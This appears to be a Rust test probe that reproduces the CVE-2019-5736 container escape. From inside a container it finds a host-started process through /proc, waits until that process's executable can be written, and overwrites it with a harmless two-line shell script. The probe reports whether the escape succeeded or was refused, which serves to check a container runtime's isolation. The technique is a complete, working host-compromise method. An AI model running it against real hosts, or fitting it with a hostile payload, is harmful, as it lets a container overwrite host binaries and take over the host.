//! The misbehaviour: inside a container, waits for a process that was started from the host, and writes over its program.
//!
//! That is CVE-2019-5736. `/proc/PID/exe` opens the very file that a process runs, wherever it is. While it runs it
//! cannot be written to (ETXTBSY); a moment later it can, by the descriptor that was taken then. Where it does not
//! work, says why, in one line. The program that is written does no harm: `#!/bin/sh`, and a word.

use std::fs::{File, OpenOptions, read_dir, read_link};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

const PATIENCE: Duration = Duration::from_secs(3);

fn main() {
    println!("ready");
    let since = Instant::now();
    let mut refused = "no process of the host's came".to_owned();
    while since.elapsed() < PATIENCE {
        for process in processes() {
            match File::open(process.join("exe")) {
                Ok(program) => return println!("{}", write_over(&program)),
                Err(error) => refused = format!("cannot open {}: {error}", process.join("exe").display()),
            }
        }
    }
    println!("refused: {refused}");
}

/// Processes whose program is no file in here.
fn processes() -> Vec<PathBuf> {
    let entries = read_dir("/proc").into_iter().flatten().flatten().map(|entry| entry.path());
    let is_hosts = |process: &PathBuf| match read_link(process.join("exe")) {
        // The engine's is a mount of its own, and its path ends there.
        Ok(program) => program == Path::new("/") || !program.exists(),
        // It is there, and keeps us from looking.
        Err(error) => error.kind() == std::io::ErrorKind::PermissionDenied,
    };
    entries
        .filter(|path| path.file_name().is_some_and(|name| name.as_encoded_bytes()[0].is_ascii_digit()))
        .filter(is_hosts)
        .collect()
}

fn write_over(program: &File) -> String {
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let since = Instant::now();
    let mut answer = String::new();
    while since.elapsed() < PATIENCE {
        let written = OpenOptions::new()
            .write(true)
            .open(&path)
            .and_then(|mut file| file.write_all(b"#!/bin/sh\necho overwritten\n"));
        match written {
            Ok(()) => return "overwritten".to_owned(),
            Err(error) => answer = format!("refused: {error}"),
        }
    }
    answer
}
